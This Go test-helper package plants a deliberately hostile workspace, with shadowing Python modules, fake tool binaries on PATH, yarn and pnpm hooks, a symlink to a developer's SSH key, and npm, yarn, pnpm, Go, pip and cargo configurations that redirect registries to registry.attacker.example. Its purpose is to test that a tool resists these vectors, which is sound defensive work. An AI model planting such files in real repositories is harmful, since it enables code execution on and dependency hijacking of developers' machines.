// Package hostilews plants a hostile workspace for tests: every file a host tool would
// execute or read as configuration when run in (or with PATH into) a repository, each
// writing a marker file when run and naming registry.attacker.example when read. A test
// runs brood's host-side code in that directory and checks that no marker appears and no
// attacker host is used.
//
// Privilege: none; tests only.
package hostilews

import (
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// AttackerHost is the registry host every planted configuration names.
const AttackerHost = "registry.attacker.example"

// Member is one planted file: Path relative to the workspace, its content (MARKER is
// replaced by the absolute marker path for this member), and whether it is executable.
type Member struct {
	Path    string
	Content string
	Exec    bool
}

// script is a shell program that records it ran.
const script = "#!/bin/sh\necho \"$0 $*\" > 'MARKER'\n"

// Members lists every way a repository can make a host tool run its code or take its
// configuration. Each entry's comment says which tool and how.
var Members = []Member{
	// python3 -c puts the current directory first on sys.path: `import pip` runs this.
	{"pip/__init__.py", "open('MARKER', 'w').write('pip ran')\n", false},
	// pip's internals by module path, the same way (python3 -c "from pip._internal...").
	{"pip/_internal/__init__.py", "open('MARKER', 'w').write('pip._internal ran')\n", false},
	// site imports these from sys.path at start-up when they are on it.
	{"sitecustomize.py", "open('MARKER', 'w').write('sitecustomize ran')\n", false},
	{"usercustomize.py", "open('MARKER', 'w').write('usercustomize ran')\n", false},
	// A bin/ put on PATH (direnv's PATH_add bin, a relative "bin" or "." entry): any tool
	// looked up by name runs the repository's program instead.
	{"bin/python3", script, true},
	{"bin/pip3", script, true},
	{"bin/pip", script, true},
	{"bin/npm", script, true},
	{"bin/node", script, true},
	{"bin/go", script, true},
	{"bin/yarn", script, true},
	{"bin/pnpm", script, true},
	{"bin/cargo", script, true},
	{"bin/git", script, true},
	{"python3", script, true}, // "." on PATH
	{"npm", script, true},
	{"go", script, true},
	// node_modules/.bin on PATH (npm scripts' convention, some shell set-ups).
	{"node_modules/.bin/npm", script, true},
	{"node_modules/.bin/yarn", script, true},
	// npm, pnpm and yarn 1 read the project's .npmrc (registry, scoped registries).
	{".npmrc", "registry=https://" + AttackerHost + "/\n@corp:registry=https://" + AttackerHost + "/scoped/\n", false},
	// yarn 1 reads the project's .yarnrc.
	{".yarnrc", "registry \"https://" + AttackerHost + "/\"\n", false},
	// yarn 2+ reads .yarnrc.yml and runs the yarnPath it names as yarn itself.
	{".yarnrc.yml", "npmRegistryServer: \"https://" + AttackerHost + "/\"\nyarnPath: .yarn/releases/yarn.cjs\n", false},
	{".yarn/releases/yarn.cjs", "require('fs').writeFileSync('MARKER', 'yarnPath ran')\n", false},
	// pnpm reads settings (registry among them in pnpm 10) from pnpm-workspace.yaml and runs
	// .pnpmfile.cjs hooks.
	{"pnpm-workspace.yaml", "registry: https://" + AttackerHost + "/\npackages: ['.']\n", false},
	{".pnpmfile.cjs", "require('fs').writeFileSync('MARKER', 'pnpmfile ran')\nmodule.exports = {}\n", false},
	// cmd/go: go.work and go.mod select modules; go.mod's toolchain line makes go download
	// and run another toolchain (GOTOOLCHAIN=auto); a go.env in a GOROOT found by PATH.
	{"go.mod", "module attacker.example/m\n\ngo 1.99.0\n\ntoolchain go1.99.0\n", false},
	{"go.work", "go 1.99.0\n\ntoolchain go1.99.0\n\nuse .\n", false},
	{"go.env", "GOPROXY=https://" + AttackerHost + "\nGOSUMDB=" + AttackerHost + "\nGOTOOLCHAIN=go1.99.0\n", false},
	// pip reads a virtualenv's pip.conf (sys.prefix) and some set-ups point PIP_CONFIG_FILE
	// at the project.
	{"pip.conf", "[global]\nindex-url = https://" + AttackerHost + "/simple\n", false},
	{".venv/pip.conf", "[global]\nindex-url = https://" + AttackerHost + "/simple\n", false},
	// cargo reads .cargo/config.toml from the current directory and every parent.
	{".cargo/config.toml", "[registries.evil]\nindex = \"sparse+https://" + AttackerHost + "/index/\"\n[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"https://" + AttackerHost + "/\"\n", false},
	// brood's own workspace file may remove hosts, never add them.
	{".brood.toml", "[egress]\ndeny_hosts = [\"nothing.example\"]\n", false},
}

// SecretLine is the content of the developer's file each Links entry points at; a tool
// that prints it has read a file outside the workspace through the repository's link.
const SecretLine = "bogus=1 # HOSTILE-LINK-SECRET"

// Links lists workspace files brood itself reads that a repository may plant as
// symbolic links to a file of the developer's (e.g. ~/.ssh/id_ed25519): brood must refuse
// them, not read the target or print its lines in a parse error.
var Links = []string{".brood.toml"}

// PlantLinks replaces each Links path under ws with a symbolic link to a file in
// secretDir (outside ws) holding SecretLine.
func PlantLinks(t testing.TB, ws, secretDir string) {
	t.Helper()
	for i, l := range Links {
		target := filepath.Join(secretDir, "secret-"+string(rune('a'+i%26)))
		if err := os.WriteFile(target, []byte(SecretLine+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(ws, filepath.FromSlash(l))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Remove(p); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
}

// Plant writes every Member under ws; markers go to markerDir (outside ws).
func Plant(t testing.TB, ws, markerDir string) {
	t.Helper()
	for i, m := range Members {
		p := filepath.Join(ws, filepath.FromSlash(m.Path))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		marker := filepath.Join(markerDir, strings.ReplaceAll(m.Path, "/", "_")+"-"+string(rune('a'+i%26)))
		mode := os.FileMode(0o644)
		if m.Exec {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(strings.ReplaceAll(m.Content, "MARKER", marker)), mode); err != nil {
			t.Fatal(err)
		}
	}
}

// PathDirs are the PATH entries a hostile set-up adds, absolute and relative, in front of
// the real ones.
func PathDirs(ws string) []string {
	return []string{filepath.Join(ws, "bin"), filepath.Join(ws, "node_modules/.bin"), ".", "bin", "node_modules/.bin"}
}

// Markers returns the markers written in markerDir, sorted.
func Markers(t testing.TB, markerDir string) []string {
	t.Helper()
	ents, err := os.ReadDir(markerDir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range ents {
		b, _ := os.ReadFile(filepath.Join(markerDir, e.Name()))
		out = append(out, e.Name()+": "+strings.TrimSpace(string(b)))
	}
	sort.Strings(out)
	return out
}
